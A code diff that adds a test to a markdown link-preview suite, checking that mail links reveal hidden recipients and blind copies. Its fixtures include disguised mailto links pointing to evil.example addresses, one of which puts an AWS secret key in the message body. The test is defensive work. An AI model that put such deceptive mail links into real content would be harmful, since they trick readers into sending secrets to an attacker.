@@ -97,6 +97,16 @@ describe("where a link really goes, shown without a hover", () => {
     assert.equal(target?.getAttribute("dir"), "ltr");
   });
 
+  it("a mail link shows whom it writes to when its text does not: a hidden recipient, a blind copy", () => {
+    const cases: [string, string][] = [
+      ["[Report it to the maintainers](mailto:sec@evil.example?body=AWS_SECRET_ACCESS_KEY%3Dabc)", "(mails sec@evil.example)"],
+      ["[security@github.com](mailto:security@github.com?bcc=drop@evil.example)", "(mails security@github.com, drop@evil.example)"],
+      ["[x](mailto:?to=a@evil.example&CC=b%40evil.example)", "(mails a@evil.example, b@evil.example)"],
+    ];
+    for (const [markdown, note] of cases) assert.ok(shown(markdown).includes(note), `${markdown} → ${shown(markdown)}`);
+    assert.ok(!shown("Mail dev.team+hearth@example.com or [Dev@Example.com](mailto:dev@example.com)").includes("mails"));
+  });
+
   it("ordinary links read as before: text that is its address, text that names no host, a workspace link", () => {
     const plain = [
       "[the docs](https://nodejs.org/api/fs.html)",
